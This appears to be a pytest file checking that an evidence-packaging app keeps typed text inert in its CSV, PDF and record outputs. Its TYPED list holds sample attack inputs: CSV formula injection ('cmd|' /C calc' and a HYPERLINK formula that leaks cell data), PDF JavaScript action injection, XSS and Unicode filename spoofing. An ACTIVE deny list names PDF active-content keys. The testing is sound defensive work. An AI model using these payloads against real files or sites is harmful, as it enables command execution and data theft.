"""Whatever a person types, or somebody gets them to paste, stays words: no formula, no script, no path of the phone."""

import csv
import getpass
import io
import json
import socket
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

from app.package import bag
from app.record import Entry, History
from tests.package import sample
from tests.package.altered import files_of

TYPED = (
    '=HYPERLINK("http://example.invalid/?"&A1,"look")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "  =1+1",
    "＝1+1",
    '"\r\n=1+1'.replace("\r\n", " "),
    ") Tj ET /JS (app.alert(1)) BT (",
    "endstream endobj 99 0 obj <</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[b]bold[/b] [ref=x]link[/ref] &bl; %s%n {0} ${x} `x` $(x)",
    "http://example.invalid/ and file:///etc/passwd",
    "\u202egpj.exe \u2066x\u2069 \u200bzero",
)
ACTIVE = {
    *(
        "/JS",
        "/JavaScript",
        "/AA",
        "/Launch",
        "/URI",
        "/SubmitForm",
        "/ImportData",
        "/GoToR",
        "/GoToE",
    ),
    *("/EmbeddedFile", "/EmbeddedFiles", "/RichMedia", "/Movie", "/Sound", "/XFA", "/AcroForm", "/Annots"),
}


def entries() -> list[tuple[str, dict[str, Any]]]:
    """Every field of free words, and every other place for words, in turn with each of these."""
    told = sample.told()[:1]
    number = 0
    for one in sample.CODEBOOK.fields:
        if one.type not in ("text", "note"):
            continue
        group = sample.CODEBOOK.group(one.group)
        kind = one.group if one.group in ("consequence", "action") else "stated"
        kind = "acted" if kind == "action" else kind
        item = f"{number:08x}" if group.repeats else None
        told.append((kind, sample.fact(one.id, sample.known(TYPED[number % len(TYPED)]), item)))
        number += 1
    told += [("noted", {"text": words, "language": "en", "audience": "public"}) for words in TYPED]
    for words, (media_id, content) in zip(TYPED, sample.CONTENT.items(), strict=False):
        media = sample.media_payload(
            media_id, "photo", "image/jpeg", content, caption=words, given_name=words
        )
        told.append(("attached", media))
    shared = {
        "to": TYPED[0],
        "fingerprint": TYPED[1],
        "profile": "counsel",
        "package_id": "ab" * 16,
        "package": "cd" * 32,
    }
    return [*told, ("shared", shared)]


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    chain = History()
    for n, (kind, payload) in enumerate(entries()):
        body = Entry(kind, sample.ENCOUNTER, sample.moment(n % 60, 3 + n // 60), payload).body()
        chain = chain.appended(sample.salt(n), body)
    folder: Path = tmp_path_factory.mktemp("a-telling-name")
    return files_of(sample.packed(folder, chain=chain, recipient_name=TYPED[0]))


def test_every_free_field_is_in_it(files: dict[str, bytes]) -> None:
    record = files[bag.RECORD].decode()
    free = [one for one in sample.CODEBOOK.fields if one.type in ("text", "note")]
    assert len(free) > 20
    assert all(json.dumps(words, ensure_ascii=False)[1:-1] in record for words in TYPED)


@pytest.mark.parametrize("name", [bag.TIMELINE, bag.OFFICERS, bag.EVIDENCE, bag.CUSTODY])
def test_no_cell_of_a_table_is_a_formula(files: dict[str, bytes], name: str) -> None:
    rows = list(csv.reader(io.StringIO(files[name].decode("utf-8-sig"), newline="")))
    assert len(rows) > 1
    for row in rows:
        assert len(row) == len(rows[0])
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), cell
            assert "\u202e" not in cell


def test_the_report_does_nothing_by_itself(files: dict[str, bytes]) -> None:
    """No script, action, form, attachment or link in any object of the PDF; the words are there as words."""
    reader = PdfReader(io.BytesIO(files[bag.SUMMARY]))
    found: set[str] = set()
    for number in range(1, len(reader.xref[0]) + 1):
        look_into(reader.get_object(IndirectObject(number, 0, reader)), found)
    look_into(reader.trailer, found)
    assert "/Pages" in found
    # Where to begin reading: a page and a place on it, which is no action.
    beginning: Any = reader.root_object["/OpenAction"]
    page, *place = beginning
    assert page.get_object()["/Type"] == "/Page"
    assert place[0] == "/FitH"
    assert found & ACTIVE == set()


def look_into(value: Any, found: set[str], depth: int = 0) -> None:
    if isinstance(value, DictionaryObject):
        found |= {str(key) for key in value} | {str(one) for one in value.values() if isinstance(one, str)}
        for inner in value.values():
            look_into(inner, found, depth + 1)
    elif isinstance(value, ArrayObject):
        for inner in value:
            look_into(inner, found, depth + 1)


def test_no_path_of_the_phone_goes_into_a_package(files: dict[str, bytes], tmp_path: Path) -> None:
    """P29: no folder, user or machine of where it was packed, in any file of it."""
    told = ["a-telling-name", str(Path.home()) + "/", str(Path(__file__).parents[2]), socket.gethostname()]
    if len(getpass.getuser()) > 4:
        told.append(getpass.getuser())
    for name, content in files.items():
        assert not [one for one in told if one.encode() in content], name
